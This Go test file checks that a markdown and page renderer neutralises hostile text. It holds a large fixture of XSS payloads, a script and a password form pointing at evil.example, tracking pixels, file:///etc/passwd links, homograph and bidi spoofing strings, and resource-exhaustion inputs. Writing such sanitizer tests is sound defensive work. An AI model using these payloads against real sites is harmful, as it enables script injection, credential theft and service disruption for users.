package page

import (
	"fmt"
	"html/template"
	"net/http"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/witan-adp/witan/adp/room"
	"github.com/witan-adp/witan/adp/types"
)

// hostile is what agents may write to harm those who read it.
var hostile = map[string]string{
	"script":            `<script>alert(1)</script>`,
	"script in a line":  `a <script src=//evil.example/x.js></script> b`,
	"svg":               `<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>`,
	"math":              `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	"img":               `<img src=x onerror=alert(1)>`,
	"picture":           `![a](https://evil.example/pixel.gif)`,
	"huge picture":      `<img width=100000 height=100000 src="data:image/svg+xml,<svg onload=alert(1)>">`,
	"picture by ref":    "![a][b]\n\n[b]: https://evil.example/pixel.gif \"t\"",
	"iframe":            `<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>`,
	"form":              `<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>ok</button></form>`,
	"style":             `<style>*{display:none}</style><p style="position:fixed;inset:0">x</p>`,
	"base":              `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
	"javascript":        `[x](javascript:alert(1))`,
	"javascript, case":  `[x](JaVaScRiPt:alert(1))`,
	"javascript, ent":   `[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1))`,
	"javascript, tab":   "[x](java&Tab;script:alert(1)) [y](<java\tscript:alert(1)>)",
	"javascript, auto":  `<javascript:alert(1)>`,
	"vbscript, data":    `[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=) ![z](data:image/svg+xml,x)`,
	"file, blob":        `[x](file:///etc/passwd) [y](blob:https://a.example/1) [z](about:blank) [w](ftp://a.example)`,
	"no scheme":         `[x](//evil.example/a) [y](/v1/rooms) [z](../../logout) [w](#s-1)`,
	"user in host":      `[bank.example](https://bank.example@evil.example/) <https://bank.example:x@evil.example>`,
	"homograph":         `[apple.com](https://аррӏе.com/) https://аррӏе.com/ <https://аррӏе.com>`,
	"title":             `[x](https://a.example "\"><script>alert(1)</script>")`,
	"quote in address":  `[x](<https://a.example/"onmouseover="alert(1)>)`,
	"class and id":      `<div id=main class=alarm>fake alarm</div> <span id="standing">verified</span>`,
	"bidi":              "user\u202egnp.exe \u2066a\u2069 \u200fb\u061c",
	"bidi in a link":    "[https://good.example/\u202e](https://evil.example/\u202efdp.exe)",
	"controls":          "a\x00b\x1b[2Jc\x7f\u0085\u2028d\u2029",
	"no width":          "pay\u200bpal\ufeff \u00ad \U000e0041\U000e0042 \u3164",
	"marks":             "Z" + strings.Repeat("\u0301\u0323", 500) + "algo",
	"long word":         strings.Repeat("W", 60_000),
	"broken bytes":      "a\ufffdb",
	"entities":          `&lt;script&gt; &#60;script&#62; &#x202e; &zwj; &NewLine;`,
	"comment":           "<!-- --!> <script>alert(1)</script> -->",
	"cdata":             "<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?> <!DOCTYPE html>",
	"fence":             "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
	"code span":         "`</code><script>alert(1)</script>`",
	"table":             "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:1)|",
	"heading":           "# <script>alert(1)</script>\n\nx\n===\n",
	"reference":         "[x]: javascript:alert(1)\n\n[x] [x][] [y][x]",
	"nested link":       "[![x](javascript:1)](javascript:2) [[a](https://a.example)](https://b.example)",
	"mail":              "<a@b.example> a@b.example [m](mailto:a@b.example?subject=x) [n](mailto:)",
	"literal brackets":  "⟦U+202E⟧ ⟦U+0041⟧ ⟦<b>⟧",
	"template":          `{{.Path}} {{template "frame"}} ${alert(1)} <%= 1 %>`,
	"close everything":  `</div></section></main></body></html><script>alert(1)</script>`,
	"brackets":          strings.Repeat("[", 64<<10),
	"links unfinished":  strings.Repeat("[](", 20_000),
	"pictures":          strings.Repeat("![", 30_000),
	"quotes":            strings.Repeat(">", 60_000),
	"quotes, apart":     strings.Repeat("> ", 30_000),
	"lists":             strings.Repeat("1. ", 20_000),
	"lists, dashes":     strings.Repeat("- ", 30_000) + "a",
	"lists, lines":      strings.Repeat("- a\n", 15_000),
	"lists, deeper":     deeper("- a\n"),
	"quotes, deeper":    deeper("> a\n"),
	"stars":             strings.Repeat("*a ", 20_000),
	"stars, double":     strings.Repeat("**a", 20_000),
	"stars and bars":    strings.Repeat("_a*b ", 12_000),
	"ticks":             strings.Repeat("`a``b```c", 7_000),
	"angles":            strings.Repeat("<", 60_000),
	"open tags":         strings.Repeat("<a x=", 12_000),
	"comments":          strings.Repeat("<!--", 15_000),
	"tables, wide":      strings.Repeat("|a", 30_000) + "\n" + strings.Repeat("|-", 30_000),
	"references, many":  strings.Repeat("[a]: b\n", 9_000) + strings.Repeat("[a]", 9_000),
	"addresses":         strings.Repeat("http://a.b ", 5_900),
	"mails":             strings.Repeat("a@b.c ", 10_000),
	"underlines":        strings.Repeat("a\n=\n", 15_000),
	"backslashes":       strings.Repeat("\\", 60_000),
	"entities, many":    strings.Repeat("&amp;", 12_000),
	"long line of dots": strings.Repeat("www.", 15_000),
}

func deeper(line string) string {
	var b strings.Builder
	for i := 0; b.Len() < 60_000; i++ {
		if line[0] == '>' {
			b.WriteString(strings.Repeat("> ", i))
		} else {
			b.WriteString(strings.Repeat("  ", i))
		}
		b.WriteString(line)
	}
	return b.String()
}

// bearable bounds what any text may cost to show. It takes milliseconds; what has
// no bound takes minutes.
const bearable = 20 * time.Second

// harmless judges a piece of a page.
func harmless(t *testing.T, piece string) *html.Node {
	t.Helper()
	return sound(t, "<!doctype html><html><head><title>x</title></head><body>"+piece+"</body></html>")
}

func TestHostileMarkdown(t *testing.T) {
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			before := time.Now()
			out := string(markdown(text))
			if took := time.Since(before); took > bearable {
				t.Errorf("it took %v", took)
			}
			doc := harmless(t, out)
			if len(out) > 16*len(text)+4096 {
				t.Errorf("%d bytes became %d", len(text), len(out))
			}
			for _, bad := range []string{"img", "iframe", "style", "form", "input", "svg", "math", "base", "meta", "script"} {
				if n := len(find(doc, func(n *html.Node) bool { return n.Data == bad && n.Parent.Data != "head" })); n > 0 {
					t.Errorf("%d elements <%s>", n, bad)
				}
			}
			if ids := find(doc, func(n *html.Node) bool { return attr(n, "id") != "" }); len(ids) > 0 {
				t.Errorf("a text gave an id: %v", ids[0].Attr)
			}
			deepest := 0
			for _, n := range find(doc, func(n *html.Node) bool { return n.FirstChild == nil || n.FirstChild.Type == html.TextNode }) {
				depth := 0
				for range n.Ancestors() {
					depth++
				}
				deepest = max(deepest, depth)
			}
			if deepest > 3*maxNesting+10 {
				t.Errorf("elements nest %d deep", deepest)
			}
		})
	}
}

// Whatever stands in a room, at every place where text can stand, its page is sound.
func TestHostileRoom(t *testing.T) {
	if raced {
		t.Skip("scripts/test.sh runs it without the race detector")
	}
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			if len(text) > 8_000 { // how long the longest take is asked of each alone, in TestHostileMarkdown
				text = text[:8_000]
			}
			w := newWorld(t)
			k := w.room.Contract
			k.Topic, k.Agenda, k.Guidance, k.Language, k.Tags = text, text, text, text, []string{text}
			w.room.Reason, w.room.Verdict = text, "forked"
			w.room.Members[1].Perspective = text
			w.room.Rules = []Count{{text, 1}}
			def, err := types.ParseStored(encode(t, map[string]any{"type": "x.y", "kind": "message", "title": text + "x", "description": text, "instructions": text, "schema": map[string]any{}}))
			if err != nil {
				t.Fatal(err)
			}
			w.room.Types = []*types.Definition{def}
			m := w.text("ben", text)
			w.markdown("ben", text)
			w.say("ben", room.Message, map[string]any{"content_type": text + "x", "content": map[string]any{"a": text}})
			w.say("ben", "x.y", map[string]any{"any": text, "references": []string{text, m}})
			w.say("ben", "question.create", map[string]any{"question": text, "basis": text, "target_perspectives": []string{text}})
			w.say("ben", "proposal.create", map[string]any{"title": text, "body": text, "content_type": "text/markdown", "proposal_id": text})
			p := w.say("ben", "poll.create", map[string]any{"question": text, "options": []any{map[string]any{"id": text, "label": text, "description": text}}})
			w.say("ada", "poll.vote", map[string]any{"poll_event_id": p, "option_ids": []string{text}})
			w.say("ada", "poll.vote", map[string]any{"poll_event_id": text, "option_ids": []string{text}})
			w.say("ada", "reaction.create", map[string]any{"event_id": m, "reaction": text})
			w.say("ada", "reaction.create", map[string]any{"event_id": text, "reaction": text})
			w.say("ben", "resource.add", map[string]any{"title": text, "uri": text, "excerpt": text, "resource_type": text, "content_digest": text})
			w.say("ben", "resource.add", map[string]any{"uri": "javascript:alert(1)", "resource_type": "x"})
			w.say("ben", "graph.update", map[string]any{"operation": text, "node": map[string]any{"title": text, "summary": text}, "nodes": []any{text}})
			w.say("ben", "artifact.create", map[string]any{"title": text, "uri": text, "format": text})
			w.say("ada", "turn.update", map[string]any{"speaker": text, "topic": text, "handoff_to": text})
			w.say("ada", "steer.create", map[string]any{"instruction": text, "target": text})
			w.say("ada", "session.offer", map[string]any{"session_id": text, "media": []string{text}})
			for _, typ := range []string{room.Update, room.Join, room.Review, room.Leave, room.RoleUpdate, room.Remove, room.Define, room.Close, room.Cancel} {
				w.say("ada", typ, map[string]any{"topic": text, "reason": text, "role": text, "member": text, "perspective": text, "type": text, "title": text, "decision": text, "ban": text})
			}
			w.rooms = []RoomItem{{Authority: theHost, Origin: "https://" + theHost, ID: roomID, URL: text, Topic: text, Agenda: text, Language: text, Tags: []string{text}, Status: text, Verdict: text, State: text, Reason: text, Attested: text, Visibility: text}}
			w.facets = []Facet{{"tag", []FacetValue{{text, 1}}}, {"status", []FacetValue{{text, 1}}}, {"host", []FacetValue{{text, 1}}}}
			w.hosts = []Host{{Origin: "https://" + theHost, Authority: theHost, State: text, Reason: text, Source: text, Verdicts: []Count{{text, 1}},
				Problems: []HostRoom{{ID: text, Topic: text, State: text, Verdict: text, Reason: text, Shown: true}}, Keys: []HostKey{{Purpose: text, Key: text}}}}
			w.signed["evidence"] = [][]byte{encode(t, map[string]any{"class": text, "kind": text, "origin": "https://" + theHost, "room_id": roomID, "agent": text, "reason": text, "seen_at": start})}
			w.self.Alarms = []Alarm{{Authority: theHost, RoomID: roomID, Topic: text, Verdict: text, Reason: text}}
			w.said = []Said{{theHost, roomID, text, text, 2, start, text, [][2]int{{0, 1}, {2, 3}, {1, 2}, {5, 1 << 30}}}}
			before := time.Now()
			h := w.handler()
			for _, path := range []string{thePlace, "/", "/rooms?q=x", "/hosts", "/hosts/" + theHost, "/witness?list=evidence", "/status", thePlace + "?after=0&from=0&fragment=1"} {
				out := get(t, h, path)
				if out.Code != http.StatusOK {
					t.Fatalf("GET %s: %d %s", path, out.Code, out.Body)
				}
				sound(t, out.Body.String())
			}
			if took := time.Since(before); took > bearable {
				t.Errorf("the pages took %v", took)
			}
		})
	}
}

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"plain": "plain",
		"中文 👩\u200d🔬 नमस्ते می\u200cخواهم": "中文 👩\u200d🔬 नमस्ते می\u200cخواهم",
		"a\u202eb":                              "a⟦U+202E⟧b",
		"a\x00\x1b":                             "a⟦U+0000⟧⟦U+001B⟧",
		"one\r\ntwo\rthree\n\tfour":             "one\ntwo\nthree\n\tfour",
		"\U000e0041":                            "⟦U+E0041⟧",
		"e" + strings.Repeat("\u0301", 9) + "x": "e" + strings.Repeat("\u0301", maxMarks) + "⟦U+0301⟧x",
		"\xff":                                  "\ufffd",
		"a" + strings.Repeat("\u202e", 2000) + "\u202c\u202c\u202d": "a⟦U+202E ×2000⟧⟦U+202C ×2⟧⟦U+202D⟧",
		strings.Repeat("\u202ea", maxHidden+1):                      strings.Repeat("⟦U+202E⟧a", maxHidden) + "\ufffda",
	} {
		if got := visible(in); got != want {
			t.Errorf("visible(%q) = %q, want %q", in, got, want)
		}
	}
}

// A text cannot make a page of many more elements than it has lines that somebody may want to read.
func TestFewElements(t *testing.T) {
	for name, text := range map[string]string{"hidden": strings.Repeat("\u202e", 20_000), "hidden, apart": strings.Repeat("\u202e\u202c", 10_000), "hidden in words": strings.Repeat("a\u202e", 15_000),
		"marks": strings.Repeat("a"+strings.Repeat("\u0301", 7), 4000), "paragraphs": strings.Repeat("a\n\n", 20_000), "lists": strings.Repeat("- a\n", 15_000), "lines": strings.Repeat("a\n", 30_000), "rules": strings.Repeat("---\n", 15_000)} {
		for form, h := range map[string]template.HTML{"markdown": markdown(text), "plain": paragraphs(text), "code": code(text)} {
			doc := harmless(t, string(h))
			if n := len(find(doc, func(*html.Node) bool { return true })); n > 4000 || len(h) > 4*len(text) {
				t.Errorf("%s as %s: %d elements, %d bytes of %d", name, form, n, len(h), len(text))
			}
		}
	}
}

func TestDestination(t *testing.T) {
	for in, want := range map[string]string{
		"https://a.example/x?y#z": "a.example", "HTTP://A.example": "a.example", "https://аррӏе.com/": "xn--80ak6aa92e.com", "https://a.example:8443/": "a.example:8443",
		"https://[::1]:80/": "[::1]:80", "mailto:a@b.example": "b.example", "https://münchen.example": "xn--mnchen-3ya.example",
		"javascript:1": "", "//a.example": "", "/a": "", "": "", "https:///a": "", "https://u@a.example": "", "data:x": "", "mailto:x": "", "https://a.example/⟦U+202E⟧": "",
		"https://" + strings.Repeat("a", 5000): "", "https://a..b": "", "http://%zz": "",
	} {
		if _, host, ok := destination(in); host != want || ok != (want != "") {
			t.Errorf("destination(%.60q) leads to %q, %v; want %q", in, host, ok, want)
		}
	}
}

func TestMarkdown(t *testing.T) {
	for in, want := range map[string]string{
		"*a* **b** ~~c~~ `d`":           `<p dir="auto"><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>`,
		"# one\n\n###### six":           "<h4 dir=\"auto\">one</h4>\n<h6 dir=\"auto\">six</h6>",
		"[a](https://b.example)":        `<p dir="auto"><a href="https://b.example" rel="` + linkRel + `">a</a> <span class="dest">b.example</span></p>`,
		"https://b.example/x":           `<p dir="auto"><a href="https://b.example/x" rel="` + linkRel + `">https://b.example/x</a></p>`,
		"![cat](https://b.example/c)":   `<p dir="auto"><a href="https://b.example/c" rel="` + linkRel + `" class="img">cat</a> <span class="dest">b.example</span></p>`,
		"[a](javascript:1)":             `<p dir="auto"><span class="nolink">a</span> <code>javascript:1</code></p>`,
		"1. a\n2. b":                    "<ol dir=\"ltr\">\n<li dir=\"auto\">a</li>\n<li dir=\"auto\">b</li>\n</ol>",
		"> ا\n>\n> - a":                 "<blockquote dir=\"rtl\"><p dir=\"auto\">ا</p>\n<ul dir=\"ltr\">\n<li dir=\"auto\">a</li>\n</ul>\n</blockquote>",
		"a\u202eb":                      `<p dir="auto">a<span class="ctl">U+202E</span>b</p>`,
		"    <b>":                       "<pre tabindex=\"0\"><code>&lt;b&gt;\n</code></pre>",
		"a <b>c</b>":                    `<p dir="auto">a <code>&lt;b&gt;</code>c<code>&lt;/b&gt;</code></p>`,
		strings.Repeat("[", 3000) + "a": `<p class="plain" dir="auto">` + strings.Repeat("[", 3000) + `a</p>`,
	} {
		if got := strings.TrimSpace(string(markdown(in))); got != want {
			t.Errorf("markdown(%.60q)\n got %.300s\nwant %.300s", in, got, want)
		}
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, text := range hostile {
		if len(text) < 2000 { // long ones take the fuzzer minutes to make shorter
			f.Add(text)
		}
	}
	f.Fuzz(func(t *testing.T, text string) {
		before := time.Now()
		out := string(markdown(text))
		if took := time.Since(before); took > bearable/10 {
			t.Fatalf("it took %v", took)
		}
		harmless(t, out)
		harmless(t, string(paragraphs(text)))
		harmless(t, fmt.Sprint("<p>", isolated(text), "</p>"))
	})
}
